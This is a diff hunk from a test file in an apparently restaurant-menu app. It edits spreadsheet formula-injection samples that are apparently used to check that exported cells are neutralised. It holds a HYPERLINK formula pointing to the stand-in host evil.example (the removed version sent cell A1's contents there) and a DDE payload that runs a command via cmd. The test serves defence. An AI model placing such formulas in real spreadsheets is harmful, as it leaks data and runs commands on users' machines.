@@ -14,7 +14,7 @@ from app.domain.spreadsheets import plain
 from app.models import Change, Menu, MenuItem, Restaurant, Section, User
 from tests.support.rows import Rows
 
-_EVIL = '=HYPERLINK("http://evil.example?x="&A1,"Click")'
+_EVIL = '=HYPERLINK("//evil.example","Click")'
 _FORMULAS = (
     _EVIL,
     "=cmd|' /C calc'!A0",
